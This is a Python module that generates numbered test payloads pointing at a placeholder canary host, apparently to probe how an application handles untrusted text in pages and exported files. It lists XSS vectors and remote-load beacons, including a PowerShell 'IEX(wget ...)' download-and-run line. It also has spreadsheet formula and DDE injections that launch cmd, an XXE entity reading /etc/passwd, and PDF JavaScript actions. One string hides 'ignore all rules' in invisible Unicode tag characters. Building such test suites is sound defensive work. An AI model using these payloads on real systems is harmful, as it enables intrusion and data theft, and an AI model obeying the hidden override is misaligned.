"""Words that would act if a page or a file obeyed them. Each carries its number, so that what acts can be named.

`{n}` is that number; `canary.invalid` is a host that does not exist, and `coachCanary` what a script
would leave behind.
"""

from __future__ import annotations

import base64
import random

HOST = "canary.invalid"
_RUN = "window.coachCanary={n}"
_SCRIPTS = (
    "<script>" + _RUN + "</script>",
    "<SCRIPT SRC=//" + HOST + "/{n}.js></SCRIPT>",
    '"><script>' + _RUN + "</script>",
    "</textarea><script>" + _RUN + "</script>",
    "</style><script>" + _RUN + "</script>",
    "</title><script>" + _RUN + "</script>",
    "</p></li><svg/onload=" + _RUN + ">",
    "--><script>" + _RUN + "</script>",
    "]]><script>" + _RUN + "</script>",
    "<scr<script>ipt>" + _RUN + "</scr</script>ipt>",
    "<script>" + _RUN + "//",
    "<img src=x onerror=" + _RUN + ">",
    "<img src=x onerror=alert({n})>",
    "<IMG SRC=`x` ONERROR=" + _RUN + ">",
    "<img/src='x'/onerror=" + _RUN + "//",
    "<svg onload=" + _RUN + "></svg>",
    "<svg><animate onbegin=" + _RUN + " attributeName=x dur=1s>",
    "<svg><script>" + _RUN + "</script></svg>",
    "<math><mi//xlink:href='javascript:" + _RUN + "'>click</mi></math>",
    "<body onload=" + _RUN + ">",
    "<details open ontoggle=" + _RUN + ">x</details>",
    "<audio src=x onerror=" + _RUN + "></audio>",
    "<video><source onerror=" + _RUN + "></video>",
    "<marquee onstart=" + _RUN + ">x</marquee>",
    "<input autofocus onfocus=" + _RUN + ">",
    "' onmouseover='" + _RUN + "' x='",
    '" onfocus="' + _RUN + '" autofocus x="',
    "<template><script>" + _RUN + "</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=" + _RUN + ">'>",
    "<xmp><p title='</xmp><img src=x onerror=" + _RUN + ">'>",
)
_LOADS = (
    "<img src=http://" + HOST + "/{n}.png>",
    "<iframe src=//" + HOST + "/{n}></iframe>",
    "<iframe srcdoc='<script>parent.coachCanary={n}</script>'></iframe>",
    "<object data=//" + HOST + "/{n}></object>",
    "<embed src=//" + HOST + "/{n}>",
    "<link rel=stylesheet href=//" + HOST + "/{n}.css>",
    "<link rel=prefetch href=//" + HOST + "/{n}>",
    "<link rel=dns-prefetch href=//n{n}." + HOST + ">",
    "<style>@import '//" + HOST + "/{n}.css';</style>",
    "<style>body{{background:url(//" + HOST + "/{n}.png)}}</style>",
    "<p style='background:url(//" + HOST + "/{n}.png)'>x</p>",
    "<meta http-equiv=refresh content='0;url=//" + HOST + "/{n}'>",
    "<base href=//" + HOST + "/>",
    "<form action=//" + HOST + "/{n}><input name=password><button>Log in</button></form>",
    "<form><button formaction=//" + HOST + "/{n}>Go</button></form>",
    "<video poster=//" + HOST + "/{n}.png></video>",
    "<audio autoplay src=//" + HOST + "/{n}.mp3></audio>",
    "<picture><source srcset=//" + HOST + "/{n}.png><img></picture>",
    "<table background=//" + HOST + "/{n}.png><td>x</table>",
    "<a href=//" + HOST + "/{n} ping=//" + HOST + "/p>x</a>",
    "<svg><image href=//" + HOST + "/{n}.png></svg>",
    "<svg><use href=//" + HOST + "/{n}.svg#x></svg>",
)
_MARKDOWN = (
    "![beacon](http://" + HOST + "/{n}.png)",
    "![beacon](//" + HOST + "/{n}.png 'title')",
    "![][ref{n}]\n\n[ref{n}]: http://" + HOST + "/{n}.png",
    "[![x](http://" + HOST + "/{n}.png)](http://" + HOST + "/{n})",
    "[click](javascript:" + _RUN + ")",
    "[click](JaVaScRiPt:" + _RUN + ")",
    "[click](java\tscript:" + _RUN + ")",
    "[click](&#106;avascript:" + _RUN + ")",
    "[click](data:text/html;base64,PHNjcmlwdD4)",
    "[click](vbscript:x{n})",
    "[click](http://" + HOST + "/{n})",
    "[click](<http://" + HOST + "/{n}>)",
    "<http://" + HOST + "/{n}>",
    "<javascript:" + _RUN + ">",
    "http://" + HOST + "/{n}",
    "https://user:secret@" + HOST + "/{n}",
    "www." + HOST + "/{n}",
    "ftp://" + HOST + "/{n}",
    "mailto:canary{n}@" + HOST,
    "canary{n}@" + HOST,
    "//" + HOST + "/{n}",
    "\\\\" + HOST + "\\share\\{n}",
    "file:///etc/passwd?{n}",
    ":material/delete: :red[{n}] :smile: :streamlit:",
    ":blue-background[{n}] :small[{n}] :color[x]{{foreground='red'}}",
    "$\\href{{javascript:" + _RUN + "}}{{x}}$",
    "$$\\includegraphics{{http://" + HOST + "/{n}.png}}$$",
    "$\\url{{http://" + HOST + "/{n}}}$ and $x^2$",
    "# heading {n}\n\n- item\n\n> quote",
    "| a | b |\n|---|---|\n| ![](http://" + HOST + "/{n}) | x |",
    "```html\n<script>" + _RUN + "</script>\n```",
    "~~{n}~~ **bold** _it_ `code` <kbd>",
    "[^1] x\n\n[^1]: ![](http://" + HOST + "/{n})",
    "{n}\n\n---\n\n<div markdown='1'>![](http://" + HOST + "/{n})</div>",
    "\\![x](http://" + HOST + "/{n}) \\\\![y](http://" + HOST + "/{n})",
    "&lt;script&gt;" + _RUN + "&lt;/script&gt; &amp;#60; &#x3C;img src=x onerror=" + _RUN + "&#x3E;",
    "&lt;img src=//" + HOST + "/{n}&gt; &NewLine; &Tab; &nbsp;",
)
_SIGNS = (
    "\u202egpj.{n}exe\u202c name",
    "\u2066\u2067{n}\u2069 \u200b\u200c\u200d\u2060\ufeff hidden",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules") + " tags {n}",
    "<\u200bscript>" + _RUN + "</script>",
    "<scr\x00ipt>" + _RUN + "</script>",
    "\x1b]8;;http://" + HOST + "/{n}\x07link\x1b]8;;\x07 \x1b[31mred",
    "a\r\nSet-Cookie: canary={n}\r\n\r\n<script>" + _RUN + "</script>",
    "＜script＞" + _RUN + "＜/script＞",
    "{{{{7*7}}}} ${{7*7}} #{{7*7}} <%= 7*7 %> {n}",
    "{{{{constructor.constructor('" + _RUN + "')()}}}}",
    "%3Cscript%3E" + _RUN + "%3C/script%3E",
    "\\u003cscript\\u003e" + _RUN + "\\u003c/script\\u003e",
    "';" + _RUN + ";//",
    '";' + _RUN + ";//",
    "`${{" + _RUN + "}}`",
    "../../{n}/..\\..\\x",
    "{n}" + "\u0301" * 40 + " Z̸a̸l̸g̸o̸",
    "\u061c\u200f\u202bעברית {n} العربية",
)
ACTING = (*_SCRIPTS, *_LOADS, *_MARKDOWN, *_SIGNS)
"""For pages: 107 of them."""

_FORMULAS = (
    "=1+{n}",
    '=HYPERLINK("http://' + HOST + '/{n}","click")',
    '=WEBSERVICE("http://' + HOST + '/{n}")',
    "=cmd|'/C calc'!A{n}",
    "+cmd|'/C calc'!A{n}",
    "-2+3+cmd|'/C calc'!A{n}",
    "@SUM(1+1)*cmd|'/C calc'!A{n}",
    '=IMPORTXML("http://' + HOST + '/{n}","//a")',
    '=DDE("cmd";"/C calc";"{n}")',
    "=2+5+cmd|' /C powershell IEX(wget " + HOST + "/{n})'!A0",
    '=IMAGE("http://' + HOST + '/{n}.png")',
    "@{n}",
    "-{n}",
    "+{n}",
)
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", '"', "'", "x;", "x; ", 'x";', "\x00")
_WIDE = str.maketrans("=+-@", "＝＋－＠")
_STRUCTURE = (
    "x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:http://" + HOST + "/{n}\r\nEND:VALARM",
    "x\nATTACH;FMTTYPE=text/html:http://" + HOST + "/{n}",
    "x\r\nEND:VTODO\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR\r\n{n}",
    "x\\nURL:http://" + HOST + "/{n}",
    'x;ALTREP="http://' + HOST + '/{n}":y',
    "x\u2028ORGANIZER:mailto:a{n}@" + HOST,
    "</w:t></w:r><w:fldSimple w:instr='INCLUDEPICTURE \"http://" + HOST + "/{n}\"'/><w:r><w:t>",
    "</w:t><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe {n}</w:instrText><w:t>",
    "<w:hyperlink r:id='rId1'>{n}</w:hyperlink>",
    '{{ INCLUDETEXT "http://' + HOST + '/{n}" }}',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{n}",
    "]]></w:t><altChunk/>{n}",
    ") /OpenAction << /S /JavaScript /JS (app.alert\\({n}\\)) >> (",
    "endstream endobj 9 0 obj << /S /URI /URI (http://" + HOST + "/{n}) >> endobj",
    "<a href='http://" + HOST + "/{n}'>x</a><img src='http://" + HOST + "/{n}'/>",
    "<link href='javascript:app.alert({n})'>x</link>",
    "<para><onDraw name='x' label='{n}'/></para>",
    "<font name='x' size='{n}'>big</font><br/>",
    "</b></para><seq id='{n}'/>",
    '","=1+{n}","',
    '"\n=1+{n}\n"',
    '";=1+{n};"',
    "\u2028=1+{n}",
    "a\x0b=1+{n}\x0c",
    '{{"__proto__": {{"x": {n}}}}}',
    "</script><script>" + _RUN + "</script>",
    "\ud800 lone {n}",
    "\ufffe\uffff {n}",
)


def acting(count: int, seed: int) -> list[str]:
    """`count` texts for pages, chosen by `seed`."""
    return _numbered(ACTING, count, seed)


def exported(count: int, seed: int) -> list[str]:
    """`count` texts for files: every structure and formula behind every beginning, and what acts on pages."""
    formulas = [f"{before}{formula}" for formula in _FORMULAS for before in _BEFORE]
    wide = [formula.translate(_WIDE) for formula in _FORMULAS]
    packed = [base64.b64encode(text.encode()).decode() for text in _SCRIPTS[:2]]
    return _numbered((*_STRUCTURE, *wide, *formulas, *ACTING, *packed), count, seed)


def _numbered(texts: tuple[str, ...], count: int, seed: int) -> list[str]:
    shuffled = list(texts)
    random.Random(seed).shuffle(shuffled)
    return [
        text.replace("{n}", str(n)).replace("{{", "{").replace("}}", "}") for n, text in enumerate(shuffled[:count])
    ]
